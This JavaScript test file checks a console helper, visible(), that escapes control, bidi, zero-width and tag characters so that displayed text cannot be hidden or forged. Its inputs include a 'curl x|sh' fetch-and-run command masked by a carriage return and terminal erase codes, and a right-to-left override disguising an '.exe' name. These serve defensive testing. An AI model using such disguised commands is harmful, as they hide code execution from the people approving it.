// The console's visible() (controller/console/js/visible.js), run by node's test runner: what
// would hide, reorder or forge text shows as an escape; everything else is unchanged.
import assert from 'node:assert/strict';
import test from 'node:test';
import { visible } from '../../controller/console/js/visible.js';

test('plain text, accents, CJK and emoji pass unchanged', () => {
  assert.equal(visible("apt-get install -y python3 'a\\nb'"), "apt-get install -y python3 'a\\nb'");
  assert.equal(visible('café 日本 😀 U+2010‐'), 'café 日本 😀 U+2010‐');
  assert.equal(visible(undefined), '');
  assert.equal(visible(null), '');
  assert.equal(visible(42), '42');
});

test('controls become escapes (the forged approval of #32)', () => {
  assert.equal(visible('curl x|sh #\r\x1b[2Kls -l\nnext'), 'curl x|sh #\\r\\x1b[2Kls -l\\nnext');
  assert.equal(visible('\t\x00\x7f\u0085\u009b'), '\\t\\x00\\x7f\\u0085\\u009b');
});

test('bidi controls, zero-width characters, separators and tags become escapes', () => {
  assert.equal(visible('ls \u202etxt.exe'), 'ls \\u202etxt.exe');
  assert.equal(visible('a\u200bb\u200d\u2066x\u2069\ufeff'), 'a\\u200bb\\u200d\\u2066x\\u2069\\ufeff');
  assert.equal(visible('\u2028\u2029\u00ad'), '\\u2028\\u2029\\u00ad');
  assert.equal(visible('\u{e0001}'), '\\U000e0001');
  assert.equal(visible('x\ud800'), 'x\\ud800');  // a lone surrogate
});
